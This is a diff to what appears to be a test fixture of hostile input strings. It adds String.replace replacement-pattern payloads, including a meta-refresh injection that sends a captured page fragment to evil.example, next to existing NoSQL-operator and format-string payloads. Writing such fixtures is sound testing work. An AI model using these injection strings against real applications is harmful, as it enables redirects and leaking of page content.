@@ -42,6 +42,11 @@ export const hostileStrings: Record<string, string> = {
   'Arabic with diacritics': 'مَرْحَبًا بِكُمْ',
   'full-width letters': 'ｓｅｌｅｃｔ＊',
   'NoSQL operator': '{"$gt": ""}',
+  // String.replace expands these in a replacement string: text put in that way copies parts of the page.
+  'replacement patterns': "$1 $2 $& $' $` $$ $<name>",
+  'replacement in a sentence': 'Lockers cost $1 extra',
+  'replacement meta refresh': '0;url=https://evil.example/?x$2 http-equiv=refresh x',
+  'replacement after a quote': "Ali's $' gym",
   'format string': '%s%s%s%n%x',
   'only spaces': '   ',
   'empty string': '',
